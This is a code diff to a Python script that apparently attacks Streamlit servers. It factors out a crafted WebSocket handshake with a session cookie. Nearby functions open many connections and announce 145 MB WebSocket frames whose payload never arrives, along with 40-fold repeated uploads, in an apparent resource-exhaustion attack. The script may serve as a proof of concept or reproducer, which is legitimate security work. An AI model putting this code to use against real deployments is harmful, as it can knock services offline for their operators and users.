@@ -78,23 +78,28 @@ async def uploads(address: str, cookies: list[str]) -> None:
     await _all(_again(one) for _ in range(40))
 
 
+def handshake(host: str, cookie: str) -> bytes:
+    """What a browser sends to open a tab's socket."""
+    asked = [
+        "GET /_stcore/stream HTTP/1.1",
+        f"Host: {host}",
+        "Connection: Upgrade",
+        "Upgrade: websocket",
+        "Sec-WebSocket-Version: 13",
+        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
+        "Sec-WebSocket-Protocol: streamlit",
+        f"Cookie: {cookie}",
+    ]
+    return "\r\n".join([*asked, "", ""]).encode()
+
+
 async def frames(address: str, cookies: list[str]) -> None:
     """3 messages of 145 MB of which the end never comes."""
 
     async def one() -> None:
         place = urlsplit(address)
         reader, writer = await asyncio.open_connection(place.hostname, place.port)
-        asked = [
-            "GET /_stcore/stream HTTP/1.1",
-            f"Host: {place.netloc}",
-            "Connection: Upgrade",
-            "Upgrade: websocket",
-            "Sec-WebSocket-Version: 13",
-            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
-            "Sec-WebSocket-Protocol: streamlit",
-            f"Cookie: {cookies[0]}",
-        ]
-        writer.write("\r\n".join([*asked, "", ""]).encode())
+        writer.write(handshake(place.netloc, cookies[0]))
         await reader.readuntil(b"\r\n\r\n")
         size = 145 * _MB
         writer.write(b"\x82\xff" + size.to_bytes(8, "big") + b"mask")
